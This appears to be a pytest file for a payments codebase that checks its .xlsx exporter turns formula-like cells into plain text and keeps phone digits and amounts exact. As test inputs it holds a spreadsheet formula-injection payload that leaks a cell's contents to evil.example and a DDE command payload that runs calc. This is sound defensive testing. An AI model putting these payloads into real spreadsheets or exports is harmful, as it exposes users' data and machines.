"""Every .xlsx export goes through the one writer beside the CSV writer: no cell is a formula,
text stays text (phone digits, exact amounts), and each file reads back as written."""

from __future__ import annotations

import io
import re
from pathlib import Path

import openpyxl
import pytest

from dollr_core.basics import spreadsheet
from dollr_core.basics.access import Actor
from dollr_core.bulk import drafts, progress, recipient_file
from dollr_core.ledger import audit
from dollr_core.services import Services
from dollr_core.team import sign_in

ROOT = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def read_xlsx(data: bytes) -> list[list[openpyxl.cell.cell.Cell]]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    return [list(row) for row in sheet.iter_rows()]


@pytest.mark.parametrize(
    "typed", ["=1+1", "+231880001234", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1", EVIL]
)
def test_a_formula_like_cell_is_text_marked_as_typed_with_an_apostrophe(typed: str) -> None:
    [_, [cell]] = read_xlsx(spreadsheet.workbook(["What"], [[typed]]))
    assert cell.data_type == "s", "a text cell, never a formula"
    assert cell.value == typed, "shown exactly as typed"
    assert cell.quotePrefix, "Excel keeps it text when the cell is edited"


def test_the_raw_file_holds_no_formula_element() -> None:
    data = spreadsheet.workbook(["What"], [[EVIL], ["=1+1"]])
    with __import__("zipfile").ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet


def test_round_trip_keeps_text_digits_and_accents() -> None:
    rows = [["Niyonsaba Émilienne", "231771234567", "-12.50", "0012", None, 25, "bell\x07"]]
    [heading, cells] = read_xlsx(spreadsheet.workbook(["a", "b", "c", "d", "e", "f", "g"], rows))
    assert [c.value for c in heading] == ["a", "b", "c", "d", "e", "f", "g"]
    assert [c.value for c in cells] == [
        "Niyonsaba Émilienne",
        "231771234567",
        "-12.50",
        "0012",
        None,
        "25",
        "bell\ufffd",
    ]
    assert {c.number_format for c in cells} == {"@"}


def test_a_sign_in_email_is_neutralised_in_the_audit_workbook(sqlite_services: Services) -> None:
    with pytest.raises(sign_in.SignInError):
        sign_in.sign_in(
            sqlite_services.engine, EVIL, "whatever it is", client="stranger", sleep=lambda _s: None
        )
    records = audit.table(audit.search(sqlite_services.engine, audit.AuditFilter()))
    [heading, *rows] = read_xlsx(audit.export_xlsx(records))
    assert [c.value for c in heading] == list(audit.columns())
    who = [c.value for c in heading].index("Who")
    [attempt] = [r for r in rows if r[[c.value for c in heading].index("Action code")].value == "sign_in"]
    assert attempt[who].value == EVIL.lower() and attempt[who].data_type == "s" and attempt[who].quotePrefix


def test_bulk_results_as_a_workbook_match_the_csv(sqlite_services: Services, finance: Actor) -> None:
    rows = [
        recipient_file.RowInput("Niyonsaba Émilienne", EVIL, "10", "USD"),
        recipient_file.RowInput("Musa", "231880001234", "5", "USD"),
    ]
    batch = drafts.create_batch(sqlite_services, finance, "Evil batch", rows)
    assert batch.id is not None
    [heading, *cells] = read_xlsx(progress.results_xlsx(sqlite_services, finance, batch.id))
    assert tuple(c.value for c in heading) == progress.RESULT_COLUMNS
    assert [r[2].value[:11] for r in cells] == ["=HYPERLINK(", "231880001234"[:11]]
    assert cells[0][2].quotePrefix and cells[0][2].data_type == "s"
    assert all(c.data_type == "s" for r in cells for c in r if c.value is not None)


def test_no_other_module_writes_a_workbook() -> None:
    """One writer for every .xlsx export; only the bulk reader opens workbooks besides it."""
    uses = re.compile(r"\bopenpyxl\b")
    allowed = {
        ROOT / "dollr_core" / "basics" / "spreadsheet.py",
        ROOT / "dollr_core" / "bulk" / "recipient_file.py",
    }
    offenders = [
        str(path.relative_to(ROOT))
        for folder in ("dollr_core", "pages", "console")
        for path in (ROOT / folder).rglob("*.py")
        if uses.search(path.read_text()) and path not in allowed
    ]
    assert offenders == []
    assert "Workbook(" not in (ROOT / "dollr_core" / "bulk" / "recipient_file.py").read_text()
